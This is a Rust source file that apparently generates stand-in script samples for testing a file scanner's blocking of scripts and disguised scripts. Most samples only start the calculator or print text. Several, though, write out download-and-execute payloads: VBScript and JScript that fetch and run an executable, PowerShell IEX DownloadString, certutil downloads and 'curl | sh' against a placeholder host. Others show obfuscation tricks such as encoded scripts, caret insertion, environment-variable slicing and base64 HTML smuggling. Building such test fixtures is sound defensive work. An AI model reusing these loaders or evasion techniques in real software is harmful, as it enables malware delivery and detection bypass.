//! A6, A7, C24: scripts, and scripts in disguise.

use crate::Standin;
use crate::build::{base64, eicar, program, utf16, zip};

const SCRIPTS: &str = "detect/scripts";

/// What a script host of Windows runs; it starts the calculator.
const VBS: &str = "Set shell = CreateObject(\"WScript.Shell\")\r\nshell.Run \"calc.exe\"\r\nWScript.Quit\r\n";
const JS: &str = "var shell = new ActiveXObject(\"WScript.Shell\");\r\nshell.Run(\"calc.exe\");\r\nWScript.Quit();\r\n";

/// `new ActiveXObject(…).Run("calc.exe")` in the encoding of scripts, and a VBScript of the same meaning.
const ENCODED_JS: &str = "#@~^AAAAAA==-mD~kP{Px\x7fh,)mDk-+or8%\x7fmYvE\x7fUmDb2ORUt\x7fVsJbI,/ I!U`rmCs1R+anr#IPqj1DraYcpEbYvbiAAAAAA==^#~@";
const ENCODED_VBS: &str = "#@~^AAAAAA==/M+CD+}4L\x7fmDcJq?^DbwO Ut+^sJ*RI!U~J1l^m +anrPlPqjmMk2OcpErOAAAAAA==^#~@";

pub(super) fn all() -> Vec<Standin> {
    let script = |name, what, text: &str| Standin::new("A6", SCRIPTS, name, what, text.as_bytes().to_vec()).blocked();
    let encoded =
        format!("powershell.exe -NoProfile -enc {}\r\n", base64(&utf16("Write-Host hello from the stand-in")));
    let jar = zip::of(&[
        ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: A\r\n\r\n"),
        ("A.class", &program::class()),
    ]);
    let download = "Set request = CreateObject(\"MSXML2.XMLHTTP\")\r\nrequest.Open \"GET\", \"http://host.invalid/a\", False\r\nrequest.Send\r\nSet stream = CreateObject(\"ADODB.Stream\")\r\nstream.Type = 1\r\nstream.Open\r\nstream.Write request.responseBody\r\nstream.SaveToFile \"a.exe\", 2\r\nCreateObject(\"WScript.Shell\").Run \"a.exe\"\r\n";
    let by_name = |name, what, text: String| Standin::new("A6", SCRIPTS, name, what, text.into_bytes()).blocked();
    let prose = "// Dear customer, please find the offer of this week below.\r\n".repeat(400);
    let mut all = vec![
        by_name("offer.js", "a script that looks like prose", format!("{prose}WScript.CreateObject(\"WScript.Shell\").Run(\"calc\")")),
        by_name("short.js", "a script too short to be told", "eval(a)".into()),
        by_name("macro.ahk", "a script of AutoHotkey", "Run, calc.exe\n".into()),
        script("a.js", "a script of the script host", JS).kind("js").technique("T1059.007"),
        script("a.vbs", "a VBScript", VBS).kind("vbs").technique("T1059.005"),
        script("a.wsf", "a script in a WSF file", &format!("<job id=\"a\"><script language=\"VBScript\"><![CDATA[\r\n{VBS}]]></script></job>\r\n")).kind("wsf"),
        script("a.wsh", "settings of the script host", "[ScriptFile]\r\nPath=C:\\temp\\a.vbs\r\n[Options]\r\nTimeout=0\r\nDisplayLogo=1\r\n"),
        script("a.hta", "an HTML application", &format!("<html><head><hta:application id=\"a\" windowstate=\"minimize\"/><script language=\"VBScript\">\r\n{VBS}</script></head><body></body></html>\r\n")).kind("hta").technique("T1218.005"),
        script("a.ps1", "a PowerShell script", "param([string]$name)\r\n$text = \"hello $name\"\r\nWrite-Host $text\r\nStart-Process calc.exe -WindowStyle Hidden\r\n").kind("ps1"),
        script("a.bat", "a batch file", "@echo off\r\necho hello\r\nstart calc.exe\r\n").kind("bat"),
        script("a.cmd", "a batch file with an encoded command", &format!("@echo off\r\n{encoded}")).technique("T1059.001"),
        script("a.sh", "a shell script", "#!/bin/sh\necho hello\n").kind("sh"),
        script("a.py", "a Python script", "#!/usr/bin/env python3\nimport os\n\nprint('hello')\n").kind("py"),
        Standin::new("A6", SCRIPTS, "a.jar", "a Java archive", jar).kind("jar").blocked(),
        Standin::new("A6", "formats/script", "a.jse", "an encoded JScript", ENCODED_JS.into()).kind("jse").technique("T1059.007").blocked(),
        Standin::new("A6", "formats/script", "a.vbe", "an encoded VBScript", ENCODED_VBS.into()).kind("vbe").technique("T1059.005").blocked(),
        Standin::new("A7", SCRIPTS, "get.vbs", "a VBScript that downloads, writes and runs", download.into()).technique("T1105").suspicious().blocked(),
        Standin::new("A7", SCRIPTS, "get.ps1", "a PowerShell that downloads and runs", b"$u = 'http://host.invalid/a.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n".to_vec()).technique("T1105").blocked(),
        Standin::new("A7", SCRIPTS, "get.bat", "a batch file that downloads and runs", b"@echo off\r\ncertutil -urlcache -split -f http://host.invalid/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n".to_vec()).technique("T1105").blocked(),
        Standin::new("A7", SCRIPTS, "get.sh", "a shell script that pipes the network into a shell", b"#!/bin/sh\ncurl -s https://host.invalid/a | sh\n".to_vec()).technique("T1105").blocked(),
        Standin::new("A7", SCRIPTS, "get.js", "a JScript that downloads, writes and runs", b"var r = new ActiveXObject('MSXML2.XMLHTTP');\r\nr.open('GET', 'http://host.invalid/a', false);\r\nr.send();\r\nvar s = new ActiveXObject('ADODB.Stream');\r\ns.Type = 1; s.Open(); s.Write(r.responseBody);\r\ns.SaveToFile('a.exe', 2);\r\nnew ActiveXObject('WScript.Shell').Run('a.exe');\r\n".to_vec()).technique("T1105").suspicious().blocked(),
    ];
    let disguised = |name, what, bytes: Vec<u8>| Standin::new("C24", SCRIPTS, name, what, bytes).blocked();
    let joined: String = base64(&eicar());
    let (first, second) = joined.split_at(40);
    all.extend([
        disguised("wide.vbs", "a VBScript in UTF-16 without a mark", utf16(VBS)).kind("vbs").technique("T1059.005"),
        disguised("case.vbs", "a VBScript in mixed case", b"sEt ShElL = cReAtEoBjEcT(\"wScRiPt.ShElL\")\r\nsHeLl.RuN \"calc.exe\"\r\nWsCrIpT.qUiT\r\n".to_vec()).technique("T1059.005"),
        disguised("split.vbs", "a VBScript of split strings", b"Dim s\r\nSet s = CreateObject(\"WScr\" & \"ipt.S\" & \"hell\")\r\ns.Run \"ca\" & \"lc\"\r\nWScript.Quit\r\n".to_vec()).technique("T1059.005"),
        disguised("codes.vbs", "a VBScript of character codes", format!("Dim s\r\nSet s = CreateObject({})\r\ns.Run \"calc\"\r\nWScript.Quit\r\n", "WScript.Shell".bytes().map(|byte| format!("Chr({byte})")).collect::<Vec<_>>().join(" & ")).into()).technique("T1059.005"),
        disguised("carets.bat", "a batch file with carets", b"@e^c^h^o off\r\np^o^w^e^r^s^h^e^l^l -w hidden -c Write-Host hello\r\n".to_vec()).technique("T1059.001"),
        disguised("slices.bat", "a batch file of slices of the environment", b"@echo off\r\nset a=abcdefghijklmnopqrstuvwxyz\r\n%a:~2,1%%a:~0,1%%a:~11,1%%a:~2,1%\r\n%a:~4,1%%a:~2,1%%a:~7,1%%a:~14,1% %a:~7,1%%a:~4,1%%a:~11,1%%a:~11,1%%a:~14,1%\r\n".to_vec()).technique("T1027.010"),
        disguised("comments.js", "a JScript broken by comments", b"var s = new/*a*/ActiveXObject('WScr'/*b*/+'ipt.Shell');\r\ns/*c*/.Run('calc');\r\nWScript.Quit();\r\n".to_vec()).technique("T1059.007"),
        disguised("pieces.ps1", "a PowerShell that joins pieces of base64", b"$a = 'V3JpdGUtSG9zd'\r\n$b = 'CBoZWxsbw=='\r\n$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a + $b))\r\nInvoke-Expression $t\r\n".to_vec()).technique("T1027.010"),
        Standin::new("C24", "formats/html", "pieces.html", "a page with base64 in pieces", format!("<!DOCTYPE html><html><body><script>var a = '{first}'; var b = '{second}'; var u = URL.createObjectURL(new Blob([atob(a + b)])); var l = document.createElement('a'); l.href = u; l.download = 'a.com'; l.click();</script></body></html>").into()).technique("T1027.006").blocked(),
    ]);
    all
}
